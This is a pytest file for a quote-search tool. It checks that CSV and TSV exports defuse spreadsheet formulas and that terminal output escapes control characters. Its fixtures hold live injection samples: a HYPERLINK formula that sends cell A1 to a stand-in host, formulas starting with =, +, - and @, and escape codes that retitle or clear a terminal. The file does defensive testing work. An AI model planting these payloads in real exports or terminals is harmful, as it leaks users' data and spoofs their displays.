"""Nothing live in what yulu writes (issue 22, failures 7 and 11): CSV and TSV cells that
a spreadsheet would run as a formula start with ``'`` (unless ``--raw-cells`` or
``raw_cells=1``), terminal text shows control characters as ``\\xNN``, JSON is exact."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from indexer.cli import main
from indexer.tools.export import write_table
from indexer.tools.inert import FORMULA_STARTS, cell_text, inert_cell, visible

HEAD = "一、在内事活动中的重要讲话\n（一）关于测试\n"
#: Quotes that a spreadsheet would run, and one that would retitle a terminal.
LIVE = {
    "=": '=HYPERLINK("http://x.example/?a="&A1,"合作点击")加强合作。',
    "+": "+合作一二三是加号开头的合作。",
    "-": "-合作是减号开头的合作。",
    "@": "@SUM(1+1)合作是at开头。",
}
ESCAPES = "合作\x1b]0;pwned\x07标题被改\x1b[2J清屏\x9b31m合作结束。"
#: What must not reach a terminal.
RAW_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


@pytest.fixture(scope="module")
def live_index(tmp_path_factory):
    from indexer.pipeline.build import build_index

    folder = tmp_path_factory.mktemp("live")
    quotes = [*LIVE.values(), ESCAPES]
    text = HEAD + "".join(f"{q}\n——5月{n}日，习近平考察\n\n" for n, q in enumerate(quotes, 1))
    (folder / "live.txt").write_text(text, encoding="utf-8")
    (folder / "live.toml").write_text('title = "附加"\nyear = 2020\nleader = "习近平"\n')
    build_index(folder / "ix", [folder / "live.txt"])
    return folder / "ix"


@pytest.fixture(scope="module")
def yulu(live_index):
    def run(*args):
        result = CliRunner().invoke(main, [*args, "--index-dir", str(live_index)])
        assert result.exit_code == 0, result.output
        return result.stdout

    return run


def cells(text: str, delimiter: str = ",") -> list[str]:
    return [
        c for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for c in row
    ]


# -- the rule ------------------------------------------------------------------------------


def test_a_cell_that_would_run_starts_with_a_quote():
    for start in FORMULA_STARTS:
        assert inert_cell(f"{start}1+1") == f"'{start}1+1"
    assert inert_cell("合作") == "合作"
    assert inert_cell("'=1") == "'=1"
    assert cell_text(-1.5, "-1.5") == "-1.5"  # a number stays a number
    assert cell_text("-1.5", "-1.5") == "'-1.5"  # text that looks like one does not
    assert cell_text("=1", "=1", raw=True) == "=1"


def test_control_characters_show_and_text_stays():
    assert visible("a\x1b]0;t\x07b\x9bc\x7fd\re") == "a\\x1b]0;t\\x07b\\x9bc\\x7fd\\x0de"
    assert visible("合作\n\t【】…") == "合作\n\t【】…"


_values = st.one_of(
    st.none(),
    st.text(),
    st.integers(),
    st.floats(allow_nan=False),
    st.lists(st.text(), max_size=3),
    st.dictionaries(st.text(max_size=5), st.integers(), max_size=3),
)


@settings(max_examples=300, deadline=None)
@given(
    columns=st.lists(st.text(min_size=1), min_size=1, max_size=4, unique=True),
    values=st.lists(st.lists(_values, min_size=4, max_size=4), max_size=4),
    delimiter=st.sampled_from([",", "\t"]),
    bom=st.booleans(),
)
def test_no_cell_yulu_writes_starts_with_a_formula_character(columns, values, delimiter, bom):
    rows = [dict(zip(columns, row, strict=False)) for row in values]
    numbers = {str(v) for row in values for v in row if type(v) in (int, float)}
    out = io.StringIO()
    write_table(out, columns, rows, delimiter=delimiter, bom=bom)
    text = out.getvalue().removeprefix("\ufeff")
    for written in cells(text, delimiter):
        assert not written.startswith(FORMULA_STARTS) or written in numbers, written


# -- every writer --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "args",
    [
        ["search", "合作", "--format", "csv", "--excel"],
        ["search", "合作", "--all", "--format", "tsv"],
        ["kwic", "合作", "--csv"],
        ["trend", "合作", "--csv", "--split", "event_type"],
    ],
)
def test_cli_tables_hold_no_live_formula(yulu, args):
    delimiter = "\t" if "tsv" in args else ","
    written = cells(yulu(*args).removeprefix("\ufeff"), delimiter)
    assert not [c for c in written if c.startswith(FORMULA_STARTS) and not _number(c)]
    if args[0] == "search":
        assert {f"'{q}" for q in LIVE.values()} <= set(written)


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_raw_cells_writes_them_as_they_are(yulu):
    written = cells(yulu("search", "合作", "--format", "csv", "--raw-cells"))
    assert set(LIVE.values()) <= set(written)


def test_raw_cells_applies_to_tables_only(live_index):
    result = CliRunner().invoke(
        main, ["search", "合作", "--raw-cells", "--index-dir", str(live_index)]
    )
    assert result.exit_code == 2
    assert "--raw-cells applies to --format csv and tsv" in result.stderr


@pytest.fixture(scope="module")
def live_client(live_index):
    from indexer.web.app import create_app

    app = create_app(live_index)
    yield app.test_client()
    app.extensions["yulu"].close()


@pytest.mark.parametrize("path", ["/export.csv?q=合作", "/kwic.csv?q=合作"])
def test_web_downloads_hold_no_live_formula(live_client, path):
    answer = live_client.get(path)
    assert answer.status_code == 200
    written = cells(answer.get_data(as_text=True).removeprefix("\ufeff"))
    assert not [c for c in written if c.startswith(FORMULA_STARTS) and not _number(c)]
    raw = live_client.get(path + "&raw_cells=1")
    assert raw.status_code == 200
    assert any(c.startswith(("=HYPERLINK", "@SUM")) for c in cells(raw.get_data(as_text=True)))


def test_web_raw_cells_takes_one_or_zero(live_client):
    answer = live_client.get("/export.csv?q=合作&raw_cells=yes")
    assert answer.status_code == 400
    assert "raw_cells must be 1" in answer.get_json()["error"]
    assert live_client.get("/export.csv?q=合作&raw_cells=0").status_code == 200
    assert live_client.get("/export.jsonl?q=合作&raw_cells=1").status_code == 400


# -- the terminal and JSON -----------------------------------------------------------------


def test_terminal_output_shows_escapes_and_json_keeps_them(yulu):
    data = json.loads(yulu("search", "清屏", "--json"))
    quote_id = data["hits"][0]["id"]
    shown = {
        "search": yulu("search", "清屏"),
        "search --color always": yulu("search", "清屏", "--color", "always"),
        "show": yulu("show", quote_id),
        "kwic": yulu("kwic", "清屏"),
    }
    for name, text in shown.items():
        plain = re.sub(r"\x1b\[(?:1;31|0|31|1|22|39)?m", "", text)  # our own colours
        assert not RAW_CONTROL.search(plain.replace("\n", "").replace("\t", "")), name
        assert "\\x1b[2J" in text and "\\x9b31m" in text, name
    assert "\\x1b]0;pwned\\x07" in shown["show"]
    assert json.loads(yulu("show", quote_id, "--json"))["text"] == ESCAPES
    lines = [json.loads(line) for line in yulu("search", "清屏", "--format", "jsonl").splitlines()]
    assert lines[0]["text"] == ESCAPES
